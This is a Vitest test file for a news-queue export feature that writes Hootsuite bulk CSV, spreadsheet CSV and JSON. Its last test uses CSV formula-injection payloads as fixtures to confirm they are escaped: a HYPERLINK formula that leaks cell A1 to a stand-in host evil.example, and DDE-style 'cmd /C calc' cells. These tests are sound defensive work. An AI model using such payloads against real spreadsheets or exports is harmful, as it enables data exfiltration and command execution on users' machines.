import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import type { QueueItem } from '../../lib/store/schema';
import { exportQueue, filterQueue } from '../../lib/export/queue';
import { measure } from '../../lib/core/draft/limits';
import { draftFor } from '../../lib/core/draft/draft-for';

const item = (i: number, over: Partial<QueueItem> = {}): QueueItem => ({
  id: `q${i}`,
  dedupeKey: `https://news.example.com/${i}`,
  url: `https://news.example.com/${i}?a=1`,
  title: `Title ${i}, with "quotes", commas and\na line break`,
  siteName: 'News',
  personaId: i % 2 ? 'p1' : 'p2',
  personaName: i % 2 ? 'Climate Desk' : 'Sports',
  score: 0.5,
  quote: `A quote ${i}. ${'Long words '.repeat(40)}`,
  status: i % 3 ? 'queued' : 'shared',
  source: 'popup',
  createdAt: Date.UTC(2026, 10, i + 1),
  updatedAt: Date.UTC(2026, 10, i + 1),
  ...over,
});
const items = Array.from({ length: 6 }, (_, i) => item(i));
const voices = new Map([['p1', { name: 'Climate Desk', hashtags: ['climate'], style: 'quote' as const, emoji: false, cta: '', topic: 'climate' }]]);

describe('queue export', () => {
  it('filters by persona, status and date', () => {
    expect(filterQueue(items, { personaId: 'p1' }).map((i) => i.id)).toEqual(['q1', 'q3', 'q5']);
    expect(filterQueue(items, { status: 'shared' }).map((i) => i.id)).toEqual(['q0', 'q3']);
    expect(filterQueue(items, { from: Date.UTC(2026, 10, 3), to: Date.UTC(2026, 10, 4) }).map((i) => i.id)).toEqual(['q2', 'q3']);
  });

  it("writes Hootsuite's bulk layout: no header, MM/DD/YYYY HH:mm, a message that fits X, a tagged link", () => {
    const file = exportQueue(items, 'hootsuite', voices, { now: new Date(2026, 10, 26, 15, 0) });
    const rows = Papa.parse<string[]>(file.content).data;
    expect(rows).toHaveLength(6);
    expect(rows[0]![0]).toBe('11/27/2026 09:00');
    expect(rows[1]![0]).toBe('11/27/2026 09:30');
    for (const [, message, link] of rows) {
      expect(measure('x', `${message} https://news.example.com/x`).fits).toBe(true);
      expect(new URL(link!).searchParams.get('utm_source')).toBe('hootsuite');
    }
    expect(rows[1]![1]).toContain('#climate');
  });

  it("keeps the persona's call to action in the Hootsuite message, as the views draft it", () => {
    const withCta = new Map([['p1', { name: 'Climate Desk', hashtags: ['climate'], style: 'quote' as const, emoji: false, cta: 'Read more:', topic: 'climate' }]]);
    const [row] = Papa.parse<string[]>(exportQueue([item(1, { quote: 'Short quote.' })], 'hootsuite', withCta).content).data;
    expect(row![1]).toContain('Read more:');
    const view = draftFor({ title: item(1).title, passage: 'Short quote.', url: null, siteName: 'News' }, withCta.get('p1')!);
    expect(row![1]).toBe(view);
  });

  it('writes a spreadsheet CSV that round-trips through a CSV parser, and JSON', () => {
    const file = exportQueue(items, 'csv', voices);
    const parsed = Papa.parse<Record<string, string>>(file.content, { header: true }).data;
    expect(parsed).toHaveLength(6);
    expect(parsed[0]!.title).toBe(items[0]!.title);
    expect(Object.keys(parsed[0]!)).toEqual(['curated_at', 'persona', 'status', 'title', 'url', 'tagged_url', 'site', 'quote', 'score']);
    const json = JSON.parse(exportQueue(items, 'json', voices).content);
    expect(json).toMatchObject({ format: 'persona-curator/queue', version: 1 });
    expect(json.items).toHaveLength(6);
  });

  it('never hands a spreadsheet a formula: cells starting with = + - @ tab or CR are escaped, in both CSV layouts', () => {
    const evil = '=HYPERLINK("https://evil.example/?"&A1,"open")';
    const hostile = [
      item(1, { title: evil, quote: '+cmd|" /C calc"!A0', siteName: '@SUM(1+1)*cmd|" /C calc"!A0', personaName: '-2+3' }),
      // A line break after the formula: papaparse's default pattern (".*$") would let this one through.
      item(2, { title: '=HYPERLINK("https://evil.example/?"&A1,"open\nnow")', quote: '\t=1+1', siteName: '\r=1+1' }),
    ];
    const csv = Papa.parse<Record<string, string>>(exportQueue(hostile, 'csv', voices).content, { header: true }).data;
    expect(csv[0]!.title).toBe(`'${evil}`);
    expect(csv[0]!.quote).toBe(`'+cmd|" /C calc"!A0`);
    expect(csv[0]!.site).toBe(`'@SUM(1+1)*cmd|" /C calc"!A0`);
    expect(csv[0]!.persona).toBe("'-2+3");
    expect(csv[1]!.title).toBe(`'=HYPERLINK("https://evil.example/?"&A1,"open\nnow")`);
    expect(csv[1]!.quote).toBe("'\t=1+1");
    expect(csv[1]!.site).toBe("'\r=1+1");
    // No cell of either file starts with a character a spreadsheet reads as the start of a formula.
    const hootsuite = Papa.parse<string[]>(exportQueue([item(1, { title: evil, quote: '' }), item(2, { title: '@foo', quote: '' })], 'hootsuite', new Map()).content).data;
    for (const row of [...hootsuite, ...csv.map((r) => Object.values(r))]) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    // Ordinary cells are untouched: the score stays a number, the titles, links and dates as they were.
    expect(csv[0]!.score).toBe('0.5');
    expect(Papa.parse<Record<string, string>>(exportQueue(items, 'csv', voices).content, { header: true }).data[0]!.title).toBe(items[0]!.title);
  });
});
